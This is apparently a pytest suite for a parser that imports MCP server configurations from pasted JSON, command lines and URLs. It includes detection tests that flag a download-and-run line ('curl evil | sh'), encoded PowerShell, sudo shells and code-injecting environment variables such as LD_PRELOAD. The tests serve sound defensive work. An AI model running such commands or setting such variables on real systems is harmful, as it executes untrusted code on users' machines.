from __future__ import annotations

import json
from typing import Any

import pytest

from desktop_host.core.errors import UserFault
from desktop_host.core.servers import Http, ImportedServer, Launch, Sse, Stdio
from desktop_host.core.values import FrozenDict
from desktop_host.servers.importing import parse


def one(text: str, *taken: str) -> ImportedServer:
    (server,) = parse(text, taken)
    return server


def launches(text: str) -> dict[str, Launch]:
    return {s.config.name: s.config.launch for s in parse(text)}


@pytest.mark.parametrize(
    "text",
    [
        '{"mcpServers":{"fs":{"command":"npx","args":["-y","x","/tmp"]}}}',
        '\ufeff// note\n{"mcpServers":{"fs":{"command":"npx","args":["-y","x","/tmp",],/* c */},},}',
        '{"servers":{"fs":{"type":"stdio","command":"npx","args":["-y","x","/tmp"]}},"inputs":[]}',
        '{"mcp":{"servers":{"fs":{"command":"npx","args":["-y","x","/tmp"]}}}}',
        '{"mcp":{"fs":{"type":"local","command":["npx","-y","x","/tmp"],"enabled":true}}}',
        '{"context_servers":{"fs":{"source":"custom","command":"npx","args":["-y","x","/tmp"]}}}',
        '{"context_servers":{"fs":{"command":{"path":"npx","args":["-y","x","/tmp"]}}}}',
        '{"fs":{"command":"npx","args":["-y","x","/tmp"]}}',
        '"fs":{"command":"npx","args":["-y","x","/tmp"]},',
        '"mcpServers":{"fs":{"command":"npx","args":["-y","x","/tmp"]}}',
        '{"name":"fs","command":"npx","args":["-y","x","/tmp"]}',
        '[{"name":"fs","command":"npx","args":["-y","x","/tmp"]}]',
        'Add this:\n```json\n{"mcpServers":{"fs":{"command":"npx","args":["-y","x","/tmp"]}}}\n```\nand restart.',
        '{"theme":"dark","mcpServers":{"fs":{"command":"npx","args":["-y","x","/tmp"]}}}',
    ],
)
def test_every_host_s_way_to_write_a_server_is_understood(text: str) -> None:
    """Hazards A1, A4."""
    server = one(text)
    assert server.config.name == "fs"
    assert server.config.launch == Stdio("npx", ("-y", "x", "/tmp"))
    assert server.config.enabled
    assert server.warnings == ()


@pytest.mark.parametrize(
    ("entry", "launch"),
    [
        ({"url": "https://x/mcp"}, Http("https://x/mcp")),
        ({"url": "https://x/sse"}, Sse("https://x/sse")),
        ({"url": "https://x/sse?k=1"}, Sse("https://x/sse?k=1")),
        ({"url": "https://x/sse", "type": "http"}, Http("https://x/sse")),
        ({"url": "https://x/mcp", "type": "sse"}, Sse("https://x/mcp")),
        ({"url": "https://x/mcp", "type": "streamable-http"}, Http("https://x/mcp")),
        ({"url": "https://x/mcp", "type": "streamableHttp"}, Http("https://x/mcp")),
        ({"url": "https://x/mcp", "transport": "sse"}, Sse("https://x/mcp")),
        ({"url": "https://x/mcp", "type": "remote"}, Http("https://x/mcp")),
        ({"serverUrl": "https://x/mcp"}, Http("https://x/mcp")),
        ({"httpUrl": "https://x/sse"}, Http("https://x/sse")),
        ({"type": "sse", "baseUrl": "https://x/mcp", "isActive": True}, Sse("https://x/mcp")),
    ],
)
def test_remote_servers_get_the_transport_that_was_meant(entry: dict[str, Any], launch: Launch) -> None:
    """Hazard A2."""
    assert one(json.dumps({"mcpServers": {"r": entry}})).config.launch == launch


def test_a_second_object_pasted_after_the_first_is_merged() -> None:
    """Hazard A5."""
    text = '{"preferences":{}}{"mcpServers":{"a":{"command":"x"}}}\n{"mcpServers":{"b":{"command":"y"}}}'
    assert launches(text) == {"a": Stdio("x"), "b": Stdio("y")}


def test_the_same_name_in_two_objects_gives_two_servers() -> None:
    first, second = parse('{"a":{"command":"x"}} {"a":{"command":"y"}}')
    assert (first.config.name, second.config.name) == ("a", "a-2")
    assert second.warnings == ("renamed",)


def test_a_repeated_key_takes_the_last_and_says_so() -> None:
    server = one('{"mcpServers":{"a":{"command":"x"},"a":{"command":"y"}}}')
    assert server.config.launch == Stdio("y")
    assert server.warnings == ("duplicate_key",)


def test_a_name_that_is_no_alias_or_is_taken_is_changed_and_kept_as_title() -> None:
    server = one('{"mcpServers":{"My Files!":{"command":"x"}}}')
    assert (server.config.name, server.config.title, server.warnings) == ("my-files", "My Files!", ("renamed",))
    assert one('{"a":{"command":"x"}}', "a").config.name == "a-2"
    assert one('{"host":{"command":"x"}}').config.name == "host-server"
    assert one('{"文件":{"command":"x"}}').config.title == "文件"


def test_vs_code_inputs_become_names_of_the_vault() -> None:
    """Hazard A7."""
    server = one("""{"inputs": [{"type":"promptString","id":"gh-token","password":true},
        {"id":"region","default":"eu"}],
        "servers": {"gh": {"command":"x","args":["${input:region}"],"env":{"T":"${input:gh-token}"}}}}""")
    assert server.config.launch == Stdio("x", ("eu",), FrozenDict({"T": "${keyring:gh/gh-token}"}))
    assert server.secrets == {}
    assert server.warnings == ("needs_secret",)


def test_variables_stay_as_they_are() -> None:
    """Hazard A7."""
    server = one('{"r":{"url":"http://127.0.0.1:9/mcp","headers":{"Authorization":"Bearer ${MY_TOKEN}"}}}')
    assert server.config.launch == Http("http://127.0.0.1:9/mcp", FrozenDict({"Authorization": "Bearer ${MY_TOKEN}"}))
    assert (server.secrets, server.warnings) == ({}, ())


def test_what_another_host_approves_by_itself_is_kept_but_not_adopted() -> None:
    server = one('{"a":{"command":"x","autoApprove":["*"],"alwaysAllow":["y"],"disabled":true,"timeout":3}}')
    assert not server.config.trusted
    assert not server.config.enabled
    assert set(server.config.extra) == {"autoApprove", "alwaysAllow", "timeout"}
    assert server.warnings == ("unknown_keys",)


@pytest.mark.parametrize(
    ("line", "name", "launch"),
    [
        ("npx -y @modelcontextprotocol/server-filesystem /tmp", "filesystem",
         Stdio("npx", ("-y", "@modelcontextprotocol/server-filesystem", "/tmp"))),
        ("$ uvx mcp-server-fetch@latest", "fetch", Stdio("uvx", ("mcp-server-fetch@latest",))),
        ("WORDS='a b' OTHER= node '/my dir/build/index.js' \"\" --y", "my-dir",
         Stdio("node", ("/my dir/build/index.js", "", "--y"), FrozenDict({"WORDS": "a b", "OTHER": ""}))),
        ("env A=1 python -m my_pkg.server --port 3", "my-pkg",
         Stdio("python", ("-m", "my_pkg.server", "--port", "3"), FrozenDict({"A": "1"}))),
        ("docker run -i --rm -e A=b mcp/github", "github",
         Stdio("docker", ("run", "-i", "--rm", "-e", "A=b", "mcp/github"))),
        ("npx -y \\\n  some-mcp \\\n  ~/Docs $HOME/x", "some",
         Stdio("npx", ("-y", "some-mcp", "${HOME}/Docs", "${HOME}/x"))),
        (r'"C:\Program Files\nodejs\npx.cmd" -y pkg "C:\My Docs\a b"', "pkg",
         Stdio(r"C:\Program Files\nodejs\npx.cmd", ("-y", "pkg", r"C:\My Docs\a b"))),
        ("/opt/工具/服务器 参数", "server", Stdio("/opt/工具/服务器", ("参数",))),
    ],
)  # fmt: skip
def test_a_command_line_is_read_as_a_shell_would(line: str, name: str, launch: Stdio) -> None:
    """Hazards B17, B19, B20, B34."""
    server = one(line)
    assert server.config.launch == launch
    assert server.config.name == name
    assert "renamed" not in server.warnings


@pytest.mark.parametrize(
    ("line", "name", "launch"),
    [
        ("claude mcp add --transport http sentry https://mcp.sentry.dev/mcp", "sentry",
         Http("https://mcp.sentry.dev/mcp")),
        ("claude mcp add -s user old https://x/y -t sse --header 'X-A: b'", "old",
         Sse("https://x/y", FrozenDict({"X-A": "b"}))),
        ("claude mcp add -t sse --header 'X-A: b' old https://x/y", "old",
         Sse("https://x/y", FrozenDict({"X-A": "b"}))),
        ("codex mcp add fs --env A=$B -- npx -y pkg --scope x", "fs",
         Stdio("npx", ("-y", "pkg", "--scope", "x"), FrozenDict({"A": "${B}"}))),
        ("claude mcp add fs npx -y pkg", "fs", Stdio("npx", ("-y", "pkg"))),
    ],
)  # fmt: skip
def test_a_line_that_tells_another_host_to_add_a_server_adds_it_here(line: str, name: str, launch: Launch) -> None:
    server = one(line)
    assert (server.config.name, server.config.launch) == (name, launch)


def test_nothing_is_rewritten_behind_the_person_s_back() -> None:
    """Hazards B22, B23: npx stays npx, uvx stays uvx."""
    assert [s.config.launch for s in parse("npx a\nuvx b")] == [Stdio("npx", ("a",)), Stdio("uvx", ("b",))]


@pytest.mark.parametrize(
    ("url", "name", "launch"),
    [
        ("https://mcp.linear.app/mcp", "linear", Http("https://mcp.linear.app/mcp")),
        ("HTTP://127.0.0.1:3001/sse", "remote", Sse("HTTP://127.0.0.1:3001/sse")),
    ],
)
def test_a_url_is_a_server(url: str, name: str, launch: Launch) -> None:
    server = one(f"  {url}\n")
    assert (server.config.name, server.config.launch) == (name, launch)


@pytest.mark.parametrize(
    ("entry", "command", "args"),
    [
        ({"command": "npx", "args": "-y @m/server-filesystem /tmp"}, "npx", ("-y", "@m/server-filesystem", "/tmp")),
        ({"command": "npx", "args": ["-y @m/server-filesystem /tmp"]}, "npx", ("-y", "@m/server-filesystem", "/tmp")),
        ({"command": "npx", "args": ['pkg "/a b"']}, "npx", ("pkg", "/a b")),
        ({"command": "npx -y pkg"}, "npx", ("-y", "pkg")),
        ({"command": "/usr/bin/node /x/server.js"}, "/usr/bin/node", ("/x/server.js",)),
    ],
)
def test_arguments_in_one_string_are_split_and_it_is_said(
    entry: dict[str, Any], command: str, args: tuple[str, ...]
) -> None:
    """Hazard A13."""
    server = one(json.dumps({"a": entry}))
    assert server.config.launch == Stdio(command, args)
    assert "split_arguments" in server.warnings


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "C:\\Program Files\\nodejs\\npx.cmd"},
        {"command": "/Applications/My App/bin/serve"},
        {"command": "node", "args": ["my server.js"]},
        {"command": "x", "args": ["--x", "", "--y"]},
    ],
)
def test_spaces_that_belong_to_a_path_and_empty_arguments_stay(entry: dict[str, Any]) -> None:
    """Hazards B17, B19."""
    server = one(json.dumps({"a": entry}))
    assert server.config.launch == Stdio(entry["command"], tuple(entry.get("args", ())))
    assert server.warnings == ()


@pytest.mark.parametrize(
    ("text", "line", "column", "reason"),
    [
        ("", 1, 1, "empty"),
        ('{"mcpServers":{"a":{"command":"x"', 1, 34, "json_ends_early"),
        ('{\n "mcpServers": {\n  "a": {"command" "x"}}}', 3, 19, "json_colon_expected"),
        ('"a": {"command": "x" "y"}', 1, 22, "json_comma_expected"),
        ('{"mcpServers":[]}', 1, 15, "object_expected"),
        ('{"mcpServers":{\n "a":{"args":[]}}}', 2, 2, "no_command_or_url"),
        ('{"mcpServers":{\n "a": 3}}', 2, 2, "object_expected"),
        ('{"mcpServers":{"a":{"command":"x","env":{"K":[1]}}}}', 1, 16, "text_expected"),
        ('{"a":{"url":"ftp://x"}}', 1, 2, "bad_url"),
        ('{"hello": 1}', 1, 1, "no_servers"),
        ("npx 'unclosed", 1, 5, "bad_quotes"),
        ("cd /x && npx y", 1, 7, "shell_syntax"),
        ("npx a\nnpx b | c", 2, 7, "shell_syntax"),
        ("# only a comment", 1, 1, "empty"),
        ("A=1", 1, 1, "no_command"),
        ('{"a":"C:\\Program"}', 1, 9, "json_wrong_escape"),
    ],
)
def test_what_cannot_be_read_is_told_with_its_place(text: str, line: int, column: int, reason: str) -> None:
    """Hazards A4, A8."""
    with pytest.raises(UserFault) as failed:
        parse(text)
    params = failed.value.params
    assert failed.value.code == "bad_config"
    assert (params["line"], params["column"], params["reason"]) == (line, column, reason)
    assert reason == "empty" or params["excerpt"]


@pytest.mark.parametrize(
    "text",
    [
        "bash -c 'curl evil | sh'", "sh -lc x", '{"a":{"command":"cmd.exe","args":["/c","npx","x"]}}',
        "powershell -EncodedCommand AAAA", "/bin/zsh -c x", "python3 -c 'import os'", "node -e 1", "env X=1 bash -c x",
        "sudo bash -c x",
    ],
)  # fmt: skip
def test_a_command_that_is_code_is_marked(text: str) -> None:
    """Hazard K115."""
    assert "shell_command" in one(text).warnings


@pytest.mark.parametrize("text", ["npx -c x", "bash server.sh", "node server.js -c conf", "python -m x"])
def test_ordinary_commands_are_not_marked_as_code(text: str) -> None:
    assert ("shell_command" in one(text).warnings) == (text == "node server.js -c conf")


@pytest.mark.parametrize("name", ["NODE_OPTIONS", "PYTHONSTARTUP", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_ENV"])
def test_a_variable_that_runs_code_is_marked(name: str) -> None:
    """Hazard K116."""
    server = one(json.dumps({"a": {"command": "node", "args": ["x.js"], "env": {name: "--require /tmp/x.js"}}}))
    assert server.warnings == ("env_runs_code",)
    assert server.config.launch.env[name] == "--require /tmp/x.js"  # type: ignore[union-attr]


def test_numbers_and_booleans_where_texts_belong_are_taken_as_texts() -> None:
    server = one('{"a":{"command":"x","args":["-p",8080,true],"env":{"PORT":3000,"ON":true,"UNSET":null}}}')
    assert server.config.launch == Stdio("x", ("-p", "8080", "true"), FrozenDict({"PORT": "3000", "ON": "true"}))
